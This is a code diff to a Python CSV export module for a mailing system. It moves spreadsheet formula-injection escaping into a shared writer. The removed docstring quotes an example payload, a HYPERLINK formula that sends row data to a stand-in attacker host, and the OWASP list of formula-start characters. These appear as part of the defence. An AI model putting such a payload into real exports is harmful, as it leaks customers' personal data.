@@ -5,13 +5,13 @@ sentence ``relmail why`` gives for each (``CODE: sentence; ...``), built
 from the decision's logged features as ``why`` builds it (``why`` adds when
 and from where an opt-out came, a look-up in the store per customer). The customer's
 contact details are columns only when asked for (``with_contact``): a
-suppression list without them can go anywhere an id may. A contact cell a
-spreadsheet would run as a formula starts with an apostrophe (:func:`spreadsheet_text`).
+suppression list without them can go anywhere an id may. A text cell a
+spreadsheet would run as a formula starts with an apostrophe
+(:mod:`relmail.store.spreadsheet_cells`).
 """
 
 from __future__ import annotations
 
-import csv
 from collections.abc import Sequence
 from pathlib import Path
 from typing import TYPE_CHECKING
@@ -21,6 +21,7 @@ from sqlalchemy import select
 from ..errors import ValidationError
 from ..store.models import Customer, Decision
 from ..store.private import open_private
+from ..store.spreadsheet_cells import writer as spreadsheet_writer
 from .runs import ACTIONS, resolve_run
 from .why import ALL_PASSED, because
 
@@ -31,20 +32,6 @@ DEC, CUS = Decision.__table__, Customer.__table__
 #: Columns of :func:`export_run`'s CSV, and the contact columns ``with_contact`` adds.
 EXPORT_FIELDS = ["run_id", "customer_id", "message_id", "action", "score", "expected_value", "reasons", "explanation"]
 CONTACT_FIELDS = ["email", "first_name", "last_name", "locale"]
-
-
-#: What makes a spreadsheet read a cell as a formula (OWASP's list): ``=HYPERLINK(...)`` as a first name.
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-
-
-def spreadsheet_text(value: str) -> str:
-    """``value`` with an apostrophe before it when a spreadsheet would run it as a formula.
-
-    A customer types their own name and address; the export is opened in Excel or
-    LibreOffice, where ``=HYPERLINK("https://evil.example/?"&A2, "Open")`` would be a link
-    that sends the row away. The apostrophe makes the cell text and is not shown.
-    """
-    return "'" + value if value.startswith(_FORMULA_START) else value
 
 
 def export_run(engine: Engine, run: str, out: str | Path, *, actions: Sequence[str] = ACTIONS, with_contact: bool = False,
@@ -71,14 +58,14 @@ def export_run(engine: Engine, run: str, out: str | Path, *, actions: Sequence[s
              .order_by(DEC.c.customer_id, DEC.c.id))
         result = conn.execution_options(stream_results=True, yield_per=batch).execute(q)
         with open_private(out, "w", newline="", encoding="utf-8") as fh:
-            writer = csv.writer(fh)
+            writer = spreadsheet_writer(fh)
             writer.writerow(EXPORT_FIELDS + (CONTACT_FIELDS if with_contact else []))
             for r in result:
                 sentences = because(r[5].split(), r[6] or {}, float(r[3]))
                 text = "; ".join(f"{code}: {sentence}" for code, sentence in sentences) or (ALL_PASSED if r[2] == "send" else "")
                 line = [run_id, r[0], r[1], r[2], round(float(r[3]), 4), round(float(r[4]), 4), r[5], text]
                 if with_contact:
-                    line += ["" if v is None else spreadsheet_text(v) for v in r[7:11]]
+                    line += ["" if v is None else v for v in r[7:11]]
                 writer.writerow(line)
                 rows += 1
     return run_id, rows
